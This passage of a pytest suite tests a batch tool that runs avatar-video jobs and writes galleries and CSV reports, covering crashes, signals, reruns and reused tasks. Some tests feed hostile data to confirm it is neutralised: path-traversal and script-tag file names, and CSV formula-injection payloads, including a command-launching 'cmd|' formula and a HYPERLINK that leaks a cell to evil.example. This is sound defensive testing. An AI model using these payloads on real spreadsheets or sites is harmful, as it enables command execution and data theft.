    assert {p: p.stat().st_mtime_ns for p in (out / "media").iterdir()} == stamps  # nothing copied again


@pytest.mark.timeout(60)
def test_the_gallery_copies_across_file_systems(tmp_path: Path, media: dict[str, Path],
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """When a hard link is impossible (another file system) the media are copied."""
    from spark_nb.batch import _report
    from spark_nb.batch._outcome import RowOutcome, RowStatus

    def no_link(src: object, dst: object, **options: object) -> None:  # as os.link (follow_symlinks=)
        raise OSError(18, "Invalid cross-device link")

    monkeypatch.setattr(_report.os, "link", no_link)
    out = tmp_path / "batch"
    out.mkdir()
    outcome = RowOutcome("a", "spark_avatar_imitator_v2v", RowStatus.COMPLETED, video=media["driving"],
                         inputs={"image": str(media["portrait"]), "driving_video": str(media["driving"])})
    page = _report.write_gallery(out, [outcome]).read_text()
    assert_refs_stay_inside(out, page)
    copy = next((out / "media").glob("driving-*.mp4"))
    assert copy.read_bytes() == media["driving"].read_bytes() and copy.stat().st_ino != media["driving"].stat().st_ino


@pytest.mark.timeout(60)
def test_hostile_input_names_cannot_escape_the_folder_or_break_the_page(tmp_path: Path,
                                                                          media: dict[str, Path]) -> None:
    """Inputs named ../x.jpg, a"b<c>.png or with %, # and ? stay inside out/media and are escaped in the page."""
    from spark_nb.batch._outcome import RowOutcome, RowStatus
    from spark_nb.batch._report import write_gallery

    out = tmp_path / "deep" / "batch"
    out.mkdir(parents=True)
    up = out / ".." / "x.jpg"  # a manifest row may well name ../x.jpg
    up.write_bytes(media["portrait"].read_bytes())
    odd = tmp_path / 'a"b<c>.png'
    odd.write_bytes(media["png"].read_bytes())
    weird = tmp_path / "100% #1?.wav"
    weird.write_bytes(media["speech"].read_bytes())
    outcomes = [
        RowOutcome("up", "spark_avatar_picture_omni_v2", RowStatus.COMPLETED, inputs={"image": str(up),
                                                                                    "audio": str(weird)}),
        RowOutcome("odd", "spark_avatar_imitator_v2v", RowStatus.FAILED, error='<script>alert("x")</script>',
                   inputs={"image": str(odd), "driving_video": str(media["driving"])}),
    ]
    page = write_gallery(out, outcomes).read_text()
    assert_refs_stay_inside(out, page)
    assert "<script>" not in page and '<c>' not in page and 'a"b' not in page
    assert "a&quot;b&lt;c&gt;.png" in page  # the file's own name, escaped, in the tooltip
    names = [p.name for p in (out / "media").iterdir()]
    assert all(re.fullmatch(r"[A-Za-z0-9._-]+", name) for name in names), names
    assert not (tmp_path / "deep" / "media").exists() and not list(tmp_path.glob("*-*.jpg"))
    assert page.count("<img") == 2 and page.count("<audio") == 1


@pytest.mark.timeout(60)
def test_a_big_image_is_shown_by_a_thumbnail(tmp_path: Path) -> None:
    """An image over the thumbnail size is shown by a small JPEG in out/media, not copied whole."""
    from PIL import Image

    from spark_nb.batch._outcome import RowOutcome, RowStatus
    from spark_nb.batch._report import THUMBNAIL_PX, write_gallery
    from tests.conftest import draw_portrait

    big = draw_portrait(tmp_path / "big.jpg", size=(2400, 3000))
    out = tmp_path / "batch"
    out.mkdir()
    page = write_gallery(out, [RowOutcome("a", "spark_avatar_imitator_v2v", RowStatus.FAILED,
                                          inputs={"image": str(big)})]).read_text()
    assert_refs_stay_inside(out, page)
    (thumb,) = (out / "media").iterdir()
    assert thumb.name.endswith("-thumb.jpg")
    with Image.open(thumb) as image:
        assert max(image.size) == THUMBNAIL_PX


def job_notebook(folder: Path, *cells: str) -> Path:
    """The bundled job notebook with code cells of a test's own added at its end."""
    import nbformat

    from spark_nb.batch._runner import TEMPLATE

    notebook = nbformat.read(TEMPLATE, as_version=4)
    notebook.cells += [nbformat.v4.new_code_cell(source) for source in cells]
    path = folder / "job.ipynb"
    nbformat.write(notebook, path)
    return path


def distinct_portraits(folder: Path, portrait: Path, names: list[str]) -> dict[str, str]:
    """A copy of portrait per name, each a different file (a JPEG comment), so no two rows are one job."""
    with Image.open(portrait) as image:
        for name in names:
            image.save(folder / f"{name}.jpg", quality=92, comment=name.encode())
    return {name: str(folder / f"{name}.jpg") for name in names}


def kernel_pids(out: Path, names: list[str]) -> dict[str, int]:
    """The kernel pid each row's executed notebook printed ("kernel N")."""
    import re

    pids = {}
    for name in names:
        text = (out / name / f"{name}.ipynb").read_text()
        pids[name] = int(re.search(r"kernel (\d+)", text).group(1))  # type: ignore[union-attr]
    return pids


def test_a_reused_kernel_shows_a_row_nothing_of_the_rows_before(tmp_path: Path, media: dict[str, Path],
                                                                 make_server: type,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """Warm kernels run row after row; each row starts with an empty namespace, in its own folder."""
    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    names = [f"r{i}" for i in range(5)]
    images = distinct_portraits(tmp_path, media["portrait"], names)
    manifest = write_manifest(tmp_path, [{"name": n, "model": "avatar", "image": images[n],
                                          "audio": str(media["speech"])} for n in names])
    notebook = job_notebook(tmp_path, "import os\n"
                            "assert 'left_by_another_row' not in globals(), 'a variable of another row is visible'\n"
                            "assert os.path.samefile(os.getcwd(), out_dir), os.getcwd()\n"
                            "left_by_another_row = name\n"
                            "print('kernel', os.getpid())")
    outcomes = run_batch(manifest, tmp_path / "out", concurrency=1, notebook=notebook, progress=False)
    assert [(o.status, o.error) for o in outcomes] == [("completed", None)] * 5
    pids = kernel_pids(tmp_path / "out", names)
    assert len(set(pids.values())) < len(names)  # kernels were reused (at most one per report thread)
    assert not any(psutil.pid_exists(pid) for pid in pids.values())  # and none outlives the batch


def test_a_row_that_kills_its_kernel_fails_alone_after_one_retry(tmp_path: Path, media: dict[str, Path],
                                                               make_server: type,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """A notebook that kills its kernel: tried twice (the second time in a fresh kernel), its error says so;
    the other rows complete with their reports."""
    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    names = ["a", "boom", "b", "c"]
    images = distinct_portraits(tmp_path, media["portrait"], names)
    manifest = write_manifest(tmp_path, [{"name": n, "model": "avatar", "image": images[n],
                                          "audio": str(media["speech"])} for n in names])
    attempts = tmp_path / "attempts.txt"
    notebook = job_notebook(tmp_path, "import os, signal\nprint('kernel', os.getpid())\n"
                            "if name == 'boom':\n"
                            f"    open({str(attempts)!r}, 'a').write(str(os.getpid()) + '\\n')\n"
                            "    os.kill(os.getpid(), signal.SIGKILL)")
    outcomes = {o.name: o for o in run_batch(manifest, tmp_path / "out", concurrency=2, notebook=notebook,
                                             progress=False)}
    tried_in = attempts.read_text().split()
    assert len(tried_in) == 2 and tried_in[0] != tried_in[1]  # retried once, in a fresh kernel
    assert "kernel died (tried 2 times)" in (outcomes["boom"].error or "")
    assert server.stats()["created"] == 4  # the crash never made a second task
    for name in ("a", "b", "c"):
        assert outcomes[name].status == "completed" and outcomes[name].error is None


def test_warm_kernels_leave_no_process_or_socket_behind(tmp_path: Path) -> None:
    """A warm kernel, used for two rows (reset between), then closed: its process, sockets and file are gone."""
    from spark_nb.batch._kernels import WarmKernels

    kernels = WarmKernels()
    first = kernels.for_row(tmp_path)
    assert kernels.for_row(tmp_path) is first  # the same kernel, reset for its second row
    manager = first.manager
    pid, sockets = manager.provisioner.process.pid, [f"{manager.ip}-{port}" for port in manager.ports]
    assert any(Path(s).exists() for s in sockets) and Path(manager.connection_file).exists()
    kernels.close()
    assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    assert not any(Path(s).exists() for s in sockets) and not Path(manager.connection_file).exists()
    with pytest.raises(Exception, match="batch is over"):
        kernels.for_row(tmp_path)  # a closed set of kernels starts no new one


def test_a_warm_kernel_fills_cells_as_nbformat_would(tmp_path: Path) -> None:
    """Every kind of output a cell makes (streams merged, a display, a result, an error) is the node nbformat's
    output_from_msg makes of the same message, and the notebook holding them is valid."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook

    from spark_nb.batch._kernels import WarmKernels, run_code

    kernels = WarmKernels()
    captured: list[dict] = []
    try:
        kernel = kernels.for_row(tmp_path)
        get = kernel.client.iopub_channel.get_msg

        def recording(*args: object, **kwargs: object) -> dict:
            msg = get(*args, **kwargs)
            captured.append(msg)
            return msg

        kernel.client.iopub_channel.get_msg = recording  # type: ignore[method-assign]
        cells = [new_code_cell("print('a'); print('b')\nfrom IPython.display import display, HTML\n"
                               "display(HTML('<b>x</b>'))\n41 + 1"), new_code_cell("1 / 0")]
        deadline = time.monotonic() + 60
        assert run_code(kernel, cells[0].source, deadline, cell=cells[0])
        assert not run_code(kernel, cells[1].source, deadline, cell=cells[1])
    finally:
        kernels.close()
    expected = [nbformat.v4.output_from_msg(m) for m in captured
                if m["header"]["msg_type"] in ("stream", "display_data", "execute_result", "error")]
    assert [o.output_type for o in cells[0].outputs] == ["stream", "display_data", "execute_result"]
    assert cells[0].outputs[0].text == "a\nb\n"  # two prints, one output
    assert cells[0].outputs[1:] == [e for e in expected if e.output_type in ("display_data", "execute_result")]
    assert cells[1].outputs == [e for e in expected if e.output_type == "error"]
    assert cells[1].outputs[0].ename == "ZeroDivisionError"
    nbformat.validate(new_notebook(cells=cells))


def test_a_portrait_without_a_face_is_advised_with_its_row_not_on_the_console(tmp_path: Path, make_server: type,
                                                                              monkeypatch: pytest.MonkeyPatch,
                                                                              media: dict[str, Path]) -> None:
    """spark-nb batch searches faces after the creates (not on the way to them): a row whose image shows no face
    runs, and results.csv, rows.json and the gallery carry "no face found" for it alone; the console has no
    warning."""
    server = make_server(api_key=TEST_KEY, longest_side=128)
    use_server(monkeypatch, server)
    folder = tmp_path / "inputs"
    folder.mkdir()
    (folder / "portrait.jpg").write_bytes(media["portrait"].read_bytes())
    (folder / "speech.wav").write_bytes(media["speech"].read_bytes())
    Image.new("RGB", (320, 400), (120, 130, 140)).save(folder / "wall.jpg")
    manifest = write_manifest(folder, [
        {"name": "face", "model": "avatar", "image": "portrait.jpg", "audio": "speech.wav"},
        {"name": "wall", "model": "avatar", "image": "wall.jpg", "audio": "speech.wav"},
    ])
    out = tmp_path / "out"
    done = batch_cli(manifest, out)
    assert done.returncode == 0, done.stdout + done.stderr
    assert server.stats()["created"] == 2
    assert not re.search("warning|no face", done.stderr, re.IGNORECASE), done.stderr
    with (out / "results.csv").open() as f:
        table = {row["name"]: row for row in csv.DictReader(f)}
    assert table["face"]["advice"] == "" and table["face"]["status"] == table["wall"]["status"] == "completed"
    assert table["wall"]["advice"].startswith("no face found in the") and "wall.jpg" in table["wall"]["advice"]
    rows = {row["name"]: row for row in json.loads((out / "rows.json").read_text())["rows"]}
    assert rows["wall"]["advice"] == table["wall"]["advice"] and rows["face"]["advice"] is None
    card = (out / "index.html").read_text().split("<h3>wall</h3>", 1)[1]
    assert re.search('<div class="advice"[^>]*>no face found in the', card)


# -- a row fails alone; the reports are always written ----------------------------------------------------------

def read_results(out: Path) -> dict[str, dict[str, str]]:
    """results.csv by row name."""
    with (out / "results.csv").open() as f:
        return {row["name"]: row for row in csv.DictReader(f)}


def test_a_row_whose_job_raises_anything_fails_alone(tmp_path: Path, media: dict[str, Path], make_server: type,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """The attack: a RecursionError (a poll answered with deeply nested JSON) escaped one row, killed the run after
    every create was paid, and wrote no report. Any exception now fails its row alone: here a user's uploader
    raises RecursionError for one row and OSError for another; the other rows complete and every report lists
    all five."""
    import spark_nb

    from .test_pipeline import upload

    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    names = ["a", "deep", "b", "disk", "c"]
    images = distinct_portraits(tmp_path, media["portrait"], names)

    def uploader(path: Path) -> str:
        if path.stem == "deep":
            raise RecursionError("maximum recursion depth exceeded while decoding a JSON object")
        if path.stem == "disk":
            raise OSError(28, "No space left on device")
        return upload(server, path)

    spark_nb.configure(uploader=uploader)
    manifest = write_manifest(tmp_path, [{"name": n, "model": "avatar", "image": images[n],
                                          "audio": str(media["speech"])} for n in names])
    out = tmp_path / "out"
    outcomes = {o.name: o for o in run_batch(manifest, out, concurrency=2, progress=False)}
    assert outcomes["deep"].status == "failed" and "RecursionError" in (outcomes["deep"].error or "")
    assert outcomes["disk"].status == "failed" and "No space left" in (outcomes["disk"].error or "")
    assert all(outcomes[n].status == "completed" for n in ("a", "b", "c")) and server.stats()["created"] == 3
    table = read_results(out)
    assert list(table) == names and "RecursionError" in table["deep"]["error"]
    assert len(json.loads((out / "rows.json").read_text())["rows"]) == 5
    assert (out / "index.html").is_file()
    assert journal_states(out) == sorted((n, "completed", outcomes[n].task_id) for n in ("a", "b", "c"))


def test_a_batch_that_crashes_still_writes_every_report(three_rows: Path, tmp_path: Path, make_server: type,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """A bug in the batch itself (its progress bar raising at the second row): the error is raised (as a SparkError
    saying it is a bug, chained from it: run_batch is a public call), and results.csv, rows.json and the gallery are
    written with every row, the finished one completed, the others unfinished; a rerun completes them without
    paying again for the first."""
    from spark_nb.batch import _runner

    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    real_add, seen = _runner.BatchProgress.add, []

    def add(self: object, outcome: object) -> None:
        seen.append(outcome)
        if len(seen) == 2:
            raise RuntimeError("a bug in the bar")
        real_add(self, outcome)  # type: ignore[arg-type]

    monkeypatch.setattr(_runner.BatchProgress, "add", add)
    out = tmp_path / "out"
    with pytest.raises(SparkError, match="unexpected internal error: RuntimeError: a bug in the bar") as info:
        run_batch(three_rows, out, concurrency=1, progress=False)
    assert isinstance(info.value.__cause__, RuntimeError)
    table = read_results(out)
    assert list(table) == ["alice", "bob", "carol"]
    assert sorted(row["status"] for row in table.values())[0] == "completed"
    assert all(row["status"] in ("completed", "unfinished", "failed") for row in table.values()), table
    assert [row["name"] for row in json.loads((out / "rows.json").read_text())["rows"]] == ["alice", "bob", "carol"]
    assert (out / "index.html").is_file()
    created = server.stats()["created"]

    monkeypatch.setattr(_runner.BatchProgress, "add", real_add)
    again = run_batch(three_rows, out, concurrency=3, progress=False)
    assert [o.status for o in again] == ["completed"] * 3 and server.stats()["created"] == 3 >= created


def test_sigterm_stops_the_batch_and_writes_every_report(three_rows: Path, tmp_path: Path, make_server: type,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """A variant the Ctrl-C test did not have: SIGTERM (a supervisor stopping `spark-nb batch`) used to end the
    process at once with no report. Now it stops as Ctrl-C does: no new task, reports with every row, exit 130,
    and the rerun completes every row creating each task once."""
    server = make_server(api_key=TEST_KEY, latency=6)
    use_server(monkeypatch, server)
    out = tmp_path / "out"
    batch = subprocess.Popen([sys.executable, "-m", "spark_nb", "batch", str(three_rows), "--out", str(out),
                              "--concurrency", "2"], start_new_session=True, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while sent(journal_states(out)) != ["submitted"] * 2:
            assert batch.poll() is None, "the batch ended before it could be stopped"
            assert time.monotonic() < deadline, f"rows never submitted: {journal_states(out)}"
            time.sleep(0.1)
        batch.send_signal(signal.SIGTERM)  # the runner alone, as `kill PID` or a supervisor does
        _, stderr = batch.communicate(timeout=60)
    finally:
        if batch.poll() is None:
            os.killpg(batch.pid, signal.SIGKILL)
            batch.wait(timeout=30)
    assert batch.returncode == 130 and "run the same command again" in stderr, stderr
    assert server.stats()["created"] == 2
    assert [row["status"] for row in read_results(out).values()] == ["unfinished"] * 3
    assert len(json.loads((out / "rows.json").read_text())["rows"]) == 3 and (out / "index.html").is_file()
    assert not [p for p in psutil.process_iter(["cmdline"]) if str(out) in " ".join(p.info["cmdline"] or [])]

    outcomes = run_batch(three_rows, out, concurrency=3, progress=False)
    assert [o.status for o in outcomes] == ["completed"] * 3 and server.stats()["created"] == 3


def test_a_batch_of_a_model_whose_cost_is_unknown_finishes_every_row_one_task_at_a_time(
        tmp_path: Path, media: dict[str, Path], make_server: type, monkeypatch: pytest.MonkeyPatch) -> None:
    """Under a budget, with nothing known of the model's cost, rows wait for the first task to finish (its cost
    then sets the estimate) instead of failing: all rows complete, and the second task was created only after
    the first had finished (before, all were created at once, each estimated at $0)."""
    server = make_server(api_key=TEST_KEY, cost_per_second=0.25, latency=2)
    use_server(monkeypatch, server)
    monkeypatch.setenv("SPARK_NB_BUDGET_USD", "50")
    names = ["one", "two", "three"]
    images = distinct_portraits(tmp_path, media["portrait"], names)
    manifest = write_manifest(tmp_path, [{"name": n, "model": "avatar", "image": images[n],
                                          "audio": str(media["speech"])} for n in names])
    outcomes = run_batch(manifest, tmp_path / "out", concurrency=3, progress=False)
    assert [o.status for o in outcomes] == ["completed"] * 3, [o.error for o in outcomes]
    tasks = sorted((server.service.tasks[i] for i in server.service.tasks), key=lambda record: record.created_at)
    assert len(tasks) == 3 and tasks[0].ready_at is not None and tasks[0].ready_at <= tasks[1].created_at


def temporary_files(folder: Path) -> list[str]:
    """Every leftover temporary file under folder."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.name.endswith((".part", ".tmp")))


def test_a_row_named_like_a_report_is_refused_before_anything_is_paid(tmp_path: Path, media: dict[str, Path],
                                                                      make_server: type,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """Rows named index.html, RESULTS.CSV or rows.json: the manifest is refused with nothing uploaded or created;
    with --skip-invalid they are listed as skipped and the other row runs, its reports where they belong (before,
    the row was paid for and then the batch crashed with IsADirectoryError, on every rerun too)."""
    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    manifest = write_manifest(tmp_path, [
        {"name": name, "model": "avatar", "image": str(media["portrait"]), "audio": str(media["speech"])}
        for name in ("index.html", "RESULTS.CSV", "rows.json", "fine")])
    out = tmp_path / "out"
    with pytest.raises(ManifestError) as info:
        run_batch(manifest, out, progress=False)
    assert [p.split(":")[0] for p in info.value.problems] == ["row 2", "row 3", "row 4"]
    assert all("taken by the batch's own files" in p for p in info.value.problems)
    assert server.stats()["created"] == server.stats()["uploads"] == 0 and not out.exists()

    outcomes = run_batch(manifest, out, progress=False, skip_invalid=True)
    assert [(o.name, o.status) for o in outcomes] == [("index.html", "skipped"), ("RESULTS.CSV", "skipped"),
                                                      ("rows.json", "skipped"), ("fine", "completed")]
    assert all((out / name).is_file() for name in ("index.html", "results.csv", "rows.json"))
    assert server.stats()["created"] == 1 and temporary_files(out) == []


def test_formulas_in_names_models_inputs_and_task_ids_are_written_inert(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """A service answering the task id =cmd|' /C calc'!A0, and invalid rows (run with --skip-invalid) whose name,
    model or input starts like a formula: no cell of results.csv starts like one; the gallery shows them escaped."""
    from .peers import peers
    from .test_hostile_peers import AUDIO, IMAGE, fake_api

    crafted = "=cmd|' /C calc'!A0"
    started = peers()
    api = next(started)(fake_api(crafted))  # a Vtrix look-alike on loopback that answers the crafted id
    try:
        monkeypatch.setenv("VTRIX_API_KEY", TEST_KEY)
        monkeypatch.setenv("VTRIX_GENERATION_URL", api.url)
        monkeypatch.setenv("SPARK_NB_BACKEND", "cloud")
        manifest = write_manifest(tmp_path, [
            {"name": "ok", "model": "avatar", "image": IMAGE, "audio": AUDIO},
            {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "model": "avatar", "image": IMAGE,
             "audio": AUDIO},
            {"name": "plus", "model": "+cmd|' /C calc'!A0", "image": IMAGE, "audio": AUDIO},
            {"name": "@SUM(A1)", "model": "avatar", "image": "-2+3", "audio": "=1+1"},
            {"name": "x\r=1+1", "model": "avatar", "image": IMAGE, "audio": AUDIO},
        ])
        out = tmp_path / "out"
        outcomes = run_batch(manifest, out, progress=False, skip_invalid=True, timeout=60)
    finally:
        next(started, None)  # stops the peer
    assert [o.status for o in outcomes] == ["completed"] + ["skipped"] * 4, [o.error for o in outcomes]
    assert outcomes[0].task_id == crafted
    with (out / "results.csv").open(newline="") as f:
        table = list(csv.DictReader(f))
    starts = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
    for row in table:
        assert not any(cell.lstrip(" ").startswith(starts) for cell in row.values()), row
    assert table[0]["task_id"] == "'" + crafted and table[1]["name"].startswith("'=HYPERLINK(")
    assert table[2]["model"] == "'+cmd|' /C calc'!A0"
    gallery = (out / "index.html").read_text()
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in gallery
    assert "\r" not in gallery and temporary_files(out) == []


def test_an_interrupted_batch_leaves_no_temporary_file(three_rows: Path, tmp_path: Path, make_server: type,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C (SIGINT) mid-batch: whole reports and not one .part or .tmp file; SIGKILL of the batch and its
    kernels mid-batch, then a rerun: the rerun's reports are whole and nothing temporary is left either."""
    server = make_server(api_key=TEST_KEY, latency=6)
    use_server(monkeypatch, server)
    out = tmp_path / "out"
    script = ("import signal, sys; signal.signal(signal.SIGINT, signal.default_int_handler); "
              "from spark_nb._cli import main; sys.exit(main(sys.argv[1:]))")
    for how, submitted in ((signal.SIGINT, 2), (signal.SIGKILL, 3)):
        batch = subprocess.Popen([sys.executable, "-c", script, "batch", str(three_rows), "--out", str(out),
                                  "--concurrency", str(submitted)], start_new_session=True,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            deadline = time.monotonic() + 120
            while sum(state == "submitted" for _, state, _ in journal_states(out)) < submitted:
                assert batch.poll() is None, "the batch ended before it could be stopped"
                assert time.monotonic() < deadline, f"rows never submitted: {journal_states(out)}"
                time.sleep(0.1)
            os.killpg(batch.pid, how)
            batch.wait(timeout=30)
        finally:
            if batch.poll() is None:
                os.killpg(batch.pid, signal.SIGKILL)
                batch.wait(timeout=30)
        if how == signal.SIGINT:
            assert batch.returncode == 130 and temporary_files(out) == []
            with (out / "results.csv").open() as f:
                assert len(list(csv.DictReader(f))) == 3
            assert (out / "index.html").read_text().rstrip().endswith("</html>")
    outcomes = run_batch(three_rows, out, concurrency=3, progress=False)
    assert [o.status for o in outcomes] == ["completed"] * 3
    assert temporary_files(out) == []


# -- every output folder whole and portable, however its rows were obtained -------------------------------------

def assert_portable(out: Path) -> dict[str, dict[str, str]]:
    """Every path results.csv, rows.json, index.html and gallery.ipynb name is relative, inside out and a file;
    every video decodes; each completed row's folder holds its video, result.json, task.json and notebook."""
    from spark_nb._ffmpeg import try_decode

    table = read_results(out)
    rows = {row["name"]: row for row in json.loads((out / "rows.json").read_text())["rows"]}
    for name, row in table.items():
        inputs = [v for v in rows[name].get("inputs", {"?": "?"}).values() if not v.startswith("http")]
        for relative in [row["video"], row["notebook"], rows[name]["video"], rows[name]["notebook"], *inputs]:
            assert relative and not relative.startswith("/") and ".." not in relative.split("/"), (name, relative)
            assert (out / relative).resolve().is_relative_to(out.resolve()) and (out / relative).is_file()
        assert try_decode(out / row["video"], 0.2).facts.duration == pytest.approx(float(row["duration"]), abs=0.1)
        assert row["video"].startswith(f"{name}/") and row["notebook"] == f"{name}/{name}.ipynb"
        record = json.loads((out / name / "result.json").read_text())
        assert record["status"] == "completed" and record["task_id"] == row["task_id"]
        assert (out / name / record["video"]).resolve() == (out / row["video"]).resolve()
        assert json.loads((out / name / "task.json").read_text())["task_id"] == row["task_id"]
    gallery = json.loads((out / "gallery.ipynb").read_text())
    (output,) = gallery["cells"][1]["outputs"]
    for page in ((out / "index.html").read_text(), "".join(output["data"]["text/html"])):
        assert_refs_stay_inside(out, page)
    return table


def test_a_rerun_into_a_new_folder_gives_every_row_a_whole_folder_that_survives_a_zip(
        tmp_path: Path, media: dict[str, Path], make_server: type, monkeypatch: pytest.MonkeyPatch) -> None:
    """The attack: a rerun into a new --out wrote no row folders, notebooks or result.json, and its results.csv
    named videos in the first run's folder (../first/...): moved or zipped, it broke. Now a row reused from the
    journal (a rerun, a video generate() made in another project's folder) or identical to another row gets the
    folder a fresh row gets: its video linked in, result.json saying which task it came from, its notebook. The
    second folder, zipped and unzipped elsewhere after the first ones are deleted, resolves every path and decodes
    every video, and a reused row's job notebook runs again with no journal and no service reachable."""
    import shutil

    import nbformat
    from nbclient import NotebookClient

    server = make_server(api_key=TEST_KEY)
    use_server(monkeypatch, server)
    folder = tmp_path / "inputs"
    folder.mkdir()
    for name in ("portrait", "speech", "driving"):
        (folder / media[name].name).write_bytes(media[name].read_bytes())
    project = tmp_path / "project"  # another project's folder, where generate() left its video
    made = avatar.generate(folder / "portrait.jpg", folder / "speech.wav", output_dir=project, progress=False)
    manifest = write_manifest(folder, [
        {"name": "talks", "model": "avatar", "image": "portrait.jpg", "audio": "speech.wav"},
        {"name": "moves", "model": "imitator", "image": "portrait.jpg", "driving_video": "driving.mp4"},
        {"name": "moves_again", "model": "imitator", "image": "portrait.jpg", "driving_video": "driving.mp4"},
    ])
    first = run_batch(manifest, tmp_path / "first", concurrency=2, progress=False)
    assert [(o.status, o.reused) for o in first] == [("completed", True), ("completed", False), ("completed", True)]
    assert first[0].task_id == made.task_id and first[1].task_id == first[2].task_id
    assert_portable(tmp_path / "first")
    second = run_batch(manifest, tmp_path / "second", concurrency=2, progress=False)
    assert [(o.status, o.reused) for o in second] == [("completed", True)] * 3
    assert server.stats()["created"] == 2 and server.stats()["downloads"] == 2  # nothing paid or fetched again

    shutil.rmtree(project)
    shutil.rmtree(tmp_path / "first")
    archive = shutil.make_archive(str(tmp_path / "second"), "zip", tmp_path, "second")
    shutil.rmtree(tmp_path / "second")
    shutil.unpack_archive(archive, tmp_path / "elsewhere")
    moved = tmp_path / "elsewhere" / "second"
    table = assert_portable(moved)
    assert [table[name]["task_id"] for name in ("talks", "moves", "moves_again")] == [o.task_id for o in second]
    reused = {name: json.loads((moved / name / "result.json").read_text())["reused"] for name in table}
    assert reused["talks"]["made_by"] == "a generate() call" and reused["moves"]["made_by"] == "a batch row"
    assert all(reused[name]["task_id"] == table[name]["task_id"] for name in table)
    said = (moved / "talks" / "talks.ipynb").read_text()
    assert f"reused task {made.task_id} from" in said and "nothing downloaded" in said

    # every video the journal knows is gone with the first folders: a third run fetches each task's video again
    # (no new task), and its rows' folders say where they came from all the same
    third = run_batch(manifest, tmp_path / "third", concurrency=2, progress=False)
    assert [(o.status, o.reused) for o in third] == [("completed", True)] * 3
    assert server.stats()["created"] == 2 and server.stats()["downloads"] == 4
    assert_portable(tmp_path / "third")
    assert json.loads((tmp_path / "third" / "talks" / "result.json").read_text())["reused"]["task_id"] == made.task_id

    # the reused row's notebook, run again where the folder now is: no journal, and no service to ask
    monkeypatch.setenv("SPARK_NB_HOME", str(tmp_path / "another_home"))
    monkeypatch.setenv("VTRIX_GENERATION_URL", "http://127.0.0.1:9")  # the discard port: nothing listens
    notebook = nbformat.read(moved / "moves" / "moves.ipynb", as_version=4)
    NotebookClient(notebook, timeout=120, kernel_name="python3",
                   resources={"metadata": {"path": str(moved / "moves")}}).execute()
    assert server.stats()["created"] == 2 and server.stats()["downloads"] == 4
    assert not (tmp_path / "another_home" / "journal.sqlite").exists()
    assert_portable(moved)
    assert_key_written_nowhere(moved)


def test_a_long_speech_is_trimmed_and_said_in_its_rows_advice_not_on_the_console(
        tmp_path: Path, media: dict[str, Path], make_server: type, monkeypatch: pytest.MonkeyPatch) -> None:
    """The attack: a 17 s speech in a batch printed its 'trimmed to ...' warning (with Python's source line) across
    the progress bar. It is the row's advice now: results.csv, rows.json, result.json, the job notebook and both
    galleries say it, the console does not; a rerun into another folder (the row reused) says the same."""
    server = make_server(api_key=TEST_KEY, longest_side=128)
    use_server(monkeypatch, server)
    folder = tmp_path / "inputs"
    folder.mkdir()
    for name in ("portrait", "speech", "long_speech"):
        (folder / media[name].name).write_bytes(media[name].read_bytes())
    manifest = write_manifest(folder, [
        {"name": "long", "model": "avatar", "image": "portrait.jpg", "audio": "long_speech.wav"},
        {"name": "short", "model": "avatar", "image": "portrait.jpg", "audio": "speech.wav"},
    ])
    advice = {}
    for out in (tmp_path / "first", tmp_path / "second"):
        done = batch_cli(manifest, out)
        assert done.returncode == 0, done.stdout + done.stderr
        assert not re.search("warn|trimmed|over the model", done.stderr, re.IGNORECASE), done.stderr
        table = read_results(out)
        advice[out.name] = table["long"]["advice"]
        assert "17.0 s, over the model's recommended 15 s limit; trimmed to" in table["long"]["advice"]
        assert table["short"]["advice"] == ""
        rows = {row["name"]: row for row in json.loads((out / "rows.json").read_text())["rows"]}
        assert rows["long"]["advice"] == table["long"]["advice"] and rows["short"]["advice"] is None
        assert json.loads((out / "long" / "result.json").read_text())["advice"] == [table["long"]["advice"]]
        assert "advice: the speech audio is 17.0 s" in (out / "long" / "long.ipynb").read_text()
        for page in ((out / "index.html").read_text(), (out / "gallery.ipynb").read_text()):
            assert "trimmed to" in page.split(">long</h3>", 1)[1].split(">short</h3>", 1)[0]
    assert advice["first"] == advice["second"]
    assert server.stats()["created"] == 2


def test_rows_whose_wait_failed_report_that_error_and_no_file_holds_an_echoed_key(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two attacks on a batch against a hostile service. A poll answered with JSON nested 100,000 deep and a video
    that does not decode: results.csv and rows.json said "the job notebook could not run: KernelLost" (the job
    notebook waited for the same task again, holding a kernel for another timeout); only result.json had the true
    reason. Now the row's error is the runner's own, and no notebook runs for it. And a service echoing the key in
    a successful answer (the result URL's `?token=`, `usage`): it reached the executed job notebook (the Result's
    repr). Now no file of the batch folder, the journal or the row folders holds it."""
    import socket as socket_module

    from spark_nb import samples

    from .peers import Peer, Seen, peers

    video = samples.DRIVING_VIDEO.read_bytes()

    def hostile(p: Peer, conn: socket_module.socket, req: Seen) -> None:
        key = req.headers.get("authorization", "").split(" ", 1)[-1]
        if req.method == "POST" and req.path == "/model/v1/generation":
            kind = json.loads(req.body)["input"][0]["params"]["image_url"].rsplit("/", 1)[-1].split(".")[0]
            return p.json(conn, 200, {"id": f"t-{kind}", "status": "pending"})
